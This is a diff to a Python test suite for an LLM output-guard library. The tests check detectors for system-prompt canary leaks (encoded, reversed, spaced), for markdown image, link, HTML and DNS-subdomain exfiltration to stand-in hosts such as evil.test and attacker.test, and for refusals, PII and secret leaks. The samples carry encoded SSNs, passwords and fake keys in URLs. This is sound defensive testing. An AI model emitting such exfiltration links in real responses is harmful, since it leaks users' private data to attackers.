@@ -52,33 +52,33 @@ def test_canaries_are_unique_and_stored() -> None:
 def test_canary_leak_plain() -> None:
     ctx = out_ctx()
     prompt = insert_canary(SYSTEM, ctx)
-    assert "guard.output.canary_leak" in leak_rules(f"Sure! My instructions: {prompt[:40]}", ctx)
+    assert "guard-output-canary-leak" in leak_rules(f"Sure! My instructions: {prompt[:40]}", ctx)
 
 
 def test_canary_leak_spaced_out() -> None:
     ctx = out_ctx()
     insert_canary(SYSTEM, ctx)
     spaced = " ".join(ctx.state["guard.canary"])
-    assert "guard.output.canary_leak" in leak_rules(spaced, ctx)
+    assert "guard-output-canary-leak" in leak_rules(spaced, ctx)
 
 
 def test_canary_leak_reversed() -> None:
     ctx = out_ctx()
     insert_canary(SYSTEM, ctx)
-    assert "guard.output.canary_leak" in leak_rules(ctx.state["guard.canary"][::-1], ctx)
+    assert "guard-output-canary-leak" in leak_rules(ctx.state["guard.canary"][::-1], ctx)
 
 
 def test_canary_leak_base64() -> None:
     ctx = out_ctx()
     prompt = insert_canary(SYSTEM, ctx)
     encoded = base64.b64encode(prompt.encode()).decode()
-    assert "guard.output.canary_leak" in leak_rules(f"here: {encoded}", ctx)
+    assert "guard-output-canary-leak" in leak_rules(f"here: {encoded}", ctx)
 
 
 def test_canary_leak_hex() -> None:
     ctx = out_ctx()
     prompt = insert_canary(SYSTEM, ctx)
-    assert "guard.output.canary_leak" in leak_rules(prompt[:60].encode().hex(), ctx)
+    assert "guard-output-canary-leak" in leak_rules(prompt[:60].encode().hex(), ctx)
 
 
 def test_verbatim_system_prompt_without_canary() -> None:
@@ -86,7 +86,7 @@ def test_verbatim_system_prompt_without_canary() -> None:
     insert_canary(SYSTEM, ctx)
     chunk = SYSTEM[70:260]
     result = SystemPromptLeakScanner().scan(f"My rules say: {chunk}", ctx)
-    assert {f.rule_id for f in result.findings} == {"guard.output.system_prompt_verbatim"}
+    assert {f.rule_id for f in result.findings} == {"guard-output-system-prompt-verbatim"}
     assert result.score >= 0.6
     for ref in result.findings[0].frameworks:
         assert lookup(ref)
@@ -113,7 +113,7 @@ def exfil(text: str, **options: Any) -> list[str]:
 def test_markdown_image_with_query_data() -> None:
     data = base64.b64encode(b"user=alice; ssn=536-22-1947").decode()
     assert exfil(f"![loading](https://attacker.test/pixel.png?d={data})") == [
-        "guard.output.exfil_image"
+        "guard-output-exfil-image"
     ]
     result = ExfilLinkScanner().scan(f"![x](https://attacker.test/p?d={data})", out_ctx())
     assert result.score >= 0.9
@@ -122,47 +122,47 @@ def test_markdown_image_with_query_data() -> None:
 def test_markdown_image_data_in_path_segment() -> None:
     seg = "a" * 10 + "3F9c2B7e1D0a8f6E5b4C3d2A1f0e9D8c"
     result = ExfilLinkScanner().scan(f"![](https://x.test/{seg}/img.png)", out_ctx())
-    assert [f.rule_id for f in result.findings] == ["guard.output.exfil_image"]
+    assert [f.rule_id for f in result.findings] == ["guard-output-exfil-image"]
     assert result.score >= 0.9
 
 
 def test_markdown_image_without_data_still_flagged_lower() -> None:
     result = ExfilLinkScanner().scan("![logo](https://cdn.other.test/logo.png)", out_ctx())
-    assert [f.rule_id for f in result.findings] == ["guard.output.exfil_image"]
+    assert [f.rule_id for f in result.findings] == ["guard-output-exfil-image"]
     assert 0.5 <= result.score < 0.9
 
 
 def test_markdown_link_with_conversation_in_query() -> None:
     text = "[click for details](https://evil.test/c?q=the+user+said+their+password+is+hunter2)"
-    assert exfil(text) == ["guard.output.exfil_link"]
+    assert exfil(text) == ["guard-output-exfil-link"]
 
 
 def test_reference_style_link() -> None:
     text = "see [here][1]\n\n[1]: https://evil.test/?x=" + "A1b2C3d4" * 4
-    assert exfil(text) == ["guard.output.exfil_link"]
+    assert exfil(text) == ["guard-output-exfil-link"]
 
 
 def test_html_img_src() -> None:
     text = '<img src="https://evil.test/t.gif?c=' + "0123456789abcdef" * 3 + '">'
-    assert exfil(text) == ["guard.output.exfil_image"]
+    assert exfil(text) == ["guard-output-exfil-image"]
 
 
 def test_protocol_relative_and_backslash_urls() -> None:
     assert exfil("![a](//evil.test/x?d=" + "Zm9vYmFyYmF6cXV4MTIzNDU2" + ")") == [
-        "guard.output.exfil_image"
+        "guard-output-exfil-image"
     ]
 
 
 def test_bare_link_with_data() -> None:
     assert exfil("visit https://evil.test/collect?email=alice@example.com now") == [
-        "guard.output.exfil_bare"
+        "guard-output-exfil-bare"
     ]
 
 
 def test_allowlisted_host_and_subdomain_pass() -> None:
     text = "![chart](https://img.docs.acme.test/chart.png?id=" + "A1b2C3d4" * 4 + ")"
     assert exfil(text, allowed_hosts=["acme.test"]) == []
-    assert exfil(text, allowed_hosts=["other.test"]) == ["guard.output.exfil_image"]
+    assert exfil(text, allowed_hosts=["other.test"]) == ["guard-output-exfil-image"]
 
 
 def test_lookalike_host_is_not_allowlisted() -> None:
@@ -190,7 +190,7 @@ def test_exfil_frameworks_resolve() -> None:
 def test_refusal_detected_as_signal() -> None:
     assert SCANNERS["refusal"] is RefusalScanner
     result = RefusalScanner().scan("I'm sorry, but I can't help with that request.", out_ctx())
-    assert [f.rule_id for f in result.findings] == ["guard.output.refusal"]
+    assert [f.rule_id for f in result.findings] == ["guard-output-refusal"]
     assert result.score == 0.9
     assert result.findings[0].severity.value == "info"
     assert RefusalScanner.default_mode == "detect"
@@ -217,14 +217,14 @@ def test_helpful_answer_is_not_refusal() -> None:
 
 def test_pii_leak_in_output() -> None:
     result = PiiScanner().scan("The customer's card is 4111 1111 1111 1111.", out_ctx())
-    assert [f.rule_id for f in result.findings] == ["guard.pii.credit_card"]
+    assert [f.rule_id for f in result.findings] == ["guard-pii-credit-card"]
     assert "model output" in result.findings[0].title
 
 
 def test_secret_leak_in_output() -> None:
     key = "AKIA" + "QWERTYUIOPASDFGH"
     result = SecretsScanner().scan(f"the key is {key}", out_ctx())
-    assert [f.rule_id for f in result.findings] == ["guard.secrets.aws_access_key_id"]
+    assert [f.rule_id for f in result.findings] == ["guard-secrets-aws-access-key-id"]
 
 
 @settings(max_examples=150, deadline=None)
@@ -247,9 +247,9 @@ def test_repeated_markup_stays_linear() -> None:
 
 
 def test_redacted_placeholder_in_url_is_data() -> None:
-    assert exfil("[see](https://evil.test/?q=<EMAIL_1>)") == ["guard.output.exfil_link"]
+    assert exfil("[see](https://evil.test/?q=<EMAIL_1>)") == ["guard-output-exfil-link"]
     assert exfil("<img src='https://evil.test/<SECRET:github_token>.png'>") == [
-        "guard.output.exfil_image"
+        "guard-output-exfil-image"
     ]
 
 
@@ -260,20 +260,20 @@ def test_commonmark_pointy_destination() -> None:
 
 def test_gfm_www_autolink_with_data() -> None:
     assert exfil("details at www.evil.test/c?d=" + "QWxpY2UgU1NOIDUzNi0yMi0xOTQ3" + " ok") == [
-        "guard.output.exfil_bare"
+        "guard-output-exfil-bare"
     ]
 
 
 def test_short_pii_in_query_is_data() -> None:
-    assert exfil("[x](https://evil.test/?p=%2B1-202-555-0143)") == ["guard.output.exfil_link"]
-    assert exfil("[x](https://evil.test/?c=4111111111111111)") == ["guard.output.exfil_link"]
+    assert exfil("[x](https://evil.test/?p=%2B1-202-555-0143)") == ["guard-output-exfil-link"]
+    assert exfil("[x](https://evil.test/?c=4111111111111111)") == ["guard-output-exfil-link"]
     assert exfil("[x](https://shop.test/item?id=12345678)") == []
 
 
 def test_dns_exfiltration_in_subdomain() -> None:
     label = "mfrggzdfmztwq2lknnwg23tpobyxe43u"  # base32 of data
     result = ExfilLinkScanner().scan(f"![a](https://{label}.evil.test/p.png)", out_ctx())
-    assert [f.rule_id for f in result.findings] == ["guard.output.exfil_image"]
+    assert [f.rule_id for f in result.findings] == ["guard-output-exfil-image"]
     assert result.score >= 0.9
     assert label not in result.findings[0].evidence
     assert "*.evil.test" in result.findings[0].evidence
@@ -289,12 +289,12 @@ def test_canary_leak_rot13() -> None:
     ctx = out_ctx()
     insert_canary(SYSTEM, ctx)
     encoded = codecs.encode(ctx.state["guard.canary"], "rot13")
-    assert "guard.output.canary_leak" in leak_rules(f"decoded: {encoded}", ctx)
+    assert "guard-output-canary-leak" in leak_rules(f"decoded: {encoded}", ctx)
 
 
 def test_open_redirect_on_allowlisted_host() -> None:
     inner = "https://evil.test/c?d=" + "QWxpY2UgU1NOIDUzNi0yMi0xOTQ3"
     text = f"![x](https://www.google.com/url?q={inner})"
-    assert exfil(text, allowed_hosts=["google.com"]) == ["guard.output.exfil_image"]
+    assert exfil(text, allowed_hosts=["google.com"]) == ["guard-output-exfil-image"]
     plain = "![x](https://www.google.com/logo.png?size=2)"
     assert exfil(plain, allowed_hosts=["google.com"]) == []
